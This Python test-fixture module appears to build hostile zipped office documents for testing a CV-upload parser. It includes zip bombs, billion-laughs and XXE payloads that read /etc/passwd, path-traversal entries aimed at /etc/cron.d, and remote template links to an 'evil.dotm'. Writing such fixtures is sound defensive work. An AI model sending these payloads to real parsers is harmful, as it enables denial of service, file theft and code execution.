"""Zipped documents that bomb, loop, lie, load and pretend."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable

from cv_matching_support import files

_TEXT = "application/vnd.oasis.opendocument.text"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def zipped(*parts: tuple[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, body in parts:
            archive.writestr(name, body)
    return out.getvalue()


def types_of(main: str) -> str:
    return f'<Types><Override PartName="/word/document.xml" ContentType="application/{main}"/></Types>'


_DOCX = types_of("vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")


def a_docx_of(document: bytes | str, *more: tuple[str, bytes | str]) -> bytes:
    return zipped(("[Content_Types].xml", _DOCX), ("word/document.xml", document), *more)


def paragraphs(inner: str) -> str:
    return f"<w:document {_W}><w:body>{inner}</w:body></w:document>"


def hello(run: str = "") -> str:
    return f"<w:p><w:r>{run}<w:t>Ana Pop, curriculum vitae of an invented person</w:t></w:r></w:p>"


def office(main: str, *more: tuple[str, bytes | str]) -> bytes:
    return zipped(("[Content_Types].xml", types_of(main)), *more)


def related(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    relation = f'<Relationship Id="r1" Type="{_RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return a_docx_of(paragraphs(hello()), (part, f"<Relationships>{relation}</Relationships>"))


def an_odt_of(text: str, *more: tuple[str, bytes | str], content: str | None = None) -> bytes:
    names = "urn:oasis:names:tc:opendocument:xmlns"
    lines = "".join(f"<t:p>{line}</t:p>" for line in text.split("\n"))
    body = content or (
        f'<o:document-content xmlns:o="{names}:office:1.0" xmlns:t="{names}:text:1.0">'
        f"<o:body><o:text>{lines}</o:text></o:body></o:document-content>"
    )
    return zipped(("mimetype", _TEXT), ("content.xml", body), *more)


def laughs(levels: int = 10) -> str:
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, levels))
    return f'<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>' + paragraphs(
        f"<w:p><w:r><w:t>&l{levels - 1};</w:t></w:r></w:p>"
    )


def reaching(address: str) -> str:
    return f'<!DOCTYPE d [<!ENTITY x SYSTEM "{address}">]>' + paragraphs(
        "<w:p><w:r><w:t>Ana &x; Pop</w:t></w:r></w:p>"
    )


def nested_zips(depth: int) -> bytes:
    body = bytes(10 << 20)
    for at in range(depth):
        body = zipped(*((f"{at}-{copy}.zip", body) for copy in range(4)))
    return body


def locked_docx() -> bytes:
    body = bytearray(a_docx_of(paragraphs(hello())))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = body.find(mark)
        while found != -1:
            body[found + at] |= 1
            found = body.find(mark, found + 4)
    return bytes(body)


def of_unknown_method() -> bytes:
    body = bytearray(a_docx_of(paragraphs(hello())))
    found = body.rfind(b"PK\x01\x02")
    body[found + 10 : found + 12] = (97).to_bytes(2, "little")
    return bytes(body)


def many_attributes(count: int) -> str:
    return paragraphs("<w:p " + " ".join(f'a{at}="{at}"' for at in range(count)) + "/>" + hello())


MADE: dict[str, Callable[[], bytes]] = {
    "docx: unpacks to 200 MB of words": lambda: files.a_bomb_docx(200),
    "docx: unpacks to 100 MB of empty paragraphs": lambda: files.a_bomb_docx(100, files.EMPTY_PARAGRAPH),
    "docx: unpacks to 300 MB of spaces in one paragraph": lambda: a_docx_of(
        paragraphs("<w:p><w:r><w:t>" + " " * (300 << 20) + "</w:t></w:r></w:p>")
    ),
    "docx: a run of five million elements": lambda: a_docx_of(
        paragraphs("<w:p>" + "<w:a/>" * 5_000_000 + "</w:p>")
    ),
    "docx: says it is small": files.a_lying_docx,
    "docx: elements 100,000 deep": lambda: a_docx_of(paragraphs("<w:p>" * 100_000)),
    "docx: elements 100,000 deep, closed": lambda: a_docx_of(
        paragraphs("<w:p>" * 100_000 + "</w:p>" * 100_000)
    ),
    "docx: a billion laughs": lambda: a_docx_of(laughs()),
    "docx: reads a local file": lambda: a_docx_of(reaching("file:///etc/passwd")),
    "docx: calls home": lambda: a_docx_of(reaching("http://127.0.0.1:9/x")),
    "docx: types from elsewhere": lambda: a_docx_of(
        '<!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd">' + paragraphs(hello())
    ),
    "docx: 100,000 attributes": lambda: a_docx_of(many_attributes(100_000)),
    "docx: 5,000 parts": lambda: a_docx_of(
        paragraphs(hello()), *((f"word/{at}.xml", "x") for at in range(5_000))
    ),
    "docx: parts outside": lambda: a_docx_of(
        paragraphs(hello()), ("../../../tmp/out", "x"), ("/etc/cron.d/x", "x")
    ),
    "docx: its document twice": lambda: a_docx_of(paragraphs(hello()), ("word/document.xml", paragraphs(""))),
    "docx: no document": lambda: zipped(("[Content_Types].xml", _DOCX)),
    "docx: not XML": lambda: a_docx_of(b"\x00\x01\x02 not xml"),
    "docx: UTF-16": lambda: a_docx_of(
        ('<?xml version="1.0" encoding="UTF-16"?>' + paragraphs(hello())).encode("utf-16")
    ),
    "docx: of an encoding that is not": lambda: a_docx_of(
        '<?xml version="1.0" encoding="UTF-7"?>' + paragraphs(hello())
    ),
    "docx: locked parts": locked_docx,
    "docx: packed in a way that is not": of_unknown_method,
    "docx: empty": lambda: a_docx_of(paragraphs("")),
    "docx: a picture alone": lambda: a_docx_of(
        paragraphs("<w:p/>"), ("word/media/scan.jpg", files.a_picture(200, "JPEG"))
    ),
    "docx: white words": lambda: a_docx_of(
        paragraphs(hello('<w:rPr><w:color w:val="FFFFFF"/></w:rPr>') + hello())
    ),
    "docx: vanished words": lambda: a_docx_of(paragraphs(hello("<w:rPr><w:vanish/></w:rPr>") + hello())),
    "docx: macros": files.a_macro_docx,
    "docx: macros under another name": lambda: zipped(
        (
            "[Content_Types].xml",
            _DOCX.replace(
                "<Types>",
                '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
        ),
        ("word/document.xml", paragraphs(hello())),
        ("word/settings.bin", b"macro"),
    ),
    "docx: macros in a bomb": lambda: zipped(
        ("[Content_Types].xml", _DOCX),
        ("word/document.xml", bytes(64 << 20)),
        ("WORD/VbaProject.BIN", b"macro"),
    ),
    "docm": lambda: office(
        "vnd.ms-word.document.macroEnabled.main+xml", ("word/document.xml", paragraphs(hello()))
    ),
    "docx: template from elsewhere": lambda: related("attachedTemplate", "http://example.com/evil.dotm"),
    "docx: template of a share": lambda: related("attachedTemplate", r"\\\\198.51.100.7\\share\\evil.dotm"),
    "docx: frame from elsewhere": lambda: related(
        "frame", "https://example.com/", "word/_rels/webSettings.xml.rels"
    ),
    "docx: object from elsewhere": lambda: related(
        "oleObject", "mhtml:http://example.com/x", "word/_rels/document.xml.rels"
    ),
    "docx: an object inside": lambda: a_docx_of(
        paragraphs(hello()), ("word/embeddings/oleObject1.bin", b"MZ")
    ),
    "docx: ActiveX": lambda: a_docx_of(paragraphs(hello()), ("word/activeX/activeX1.xml", "<x/>")),
    "docx: a PDF as well": lambda: zipped(
        ("%PDF-1.4.txt", b"%PDF-1.4 trailer"),
        ("[Content_Types].xml", _DOCX),
        ("word/document.xml", paragraphs(hello())),
        method=zipfile.ZIP_STORED,
    ),
    "xlsx": lambda: office(
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", ("xl/workbook.xml", "<x/>")
    ),
    "xlsm": lambda: office("vnd.ms-excel.sheet.macroEnabled.main+xml", ("xl/workbook.xml", "<x/>")),
    "xlsx: old macros": lambda: office(
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        ("xl/macrosheets/sheet1.xml", "<x/>"),
    ),
    "pptx": lambda: office(
        "vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ("ppt/presentation.xml", "<x/>"),
    ),
    "odt: a billion laughs": lambda: an_odt_of("", content=laughs()),
    "odt: reads a local file": lambda: an_odt_of("", content=reaching("file:///etc/passwd")),
    "odt: elements 100,000 deep": lambda: an_odt_of("", content="<a>" * 100_000),
    "odt: unpacks to 300 MB": lambda: an_odt_of("A" * (300 << 20)),
    "odt: no content": lambda: zipped(("mimetype", _TEXT)),
    "odt: macros": lambda: an_odt_of("Ana Pop", ("Basic/Standard/Module1.xml", "<x/>")),
    "odt: locked": lambda: an_odt_of("Ana Pop", ("META-INF/manifest.xml", "<m:encryption-data/>")),
    "ods": lambda: zipped(
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", "<x/>")
    ),
    "pages": lambda: zipped(("Index/Document.iwa", b"x"), ("preview.jpg", b"x")),
    "zip": files.an_archive,
    "zip: of zips of zips": lambda: nested_zips(4),
    "zip: 60,000 empty files": lambda: zipped(*((str(at), b"") for at in range(60_000))),
    "zip: end alone": lambda: b"PK\x05\x06" + bytes(18),
    "zip: beginning alone": lambda: b"PK\x03\x04" + bytes(26),
    "jar": lambda: zipped(("META-INF/MANIFEST.MF", "Main-Class: Evil"), ("Evil.class", b"\xca\xfe\xba\xbe")),
    "apk": lambda: zipped(("AndroidManifest.xml", b"x"), ("classes.dex", b"dex\n")),
}
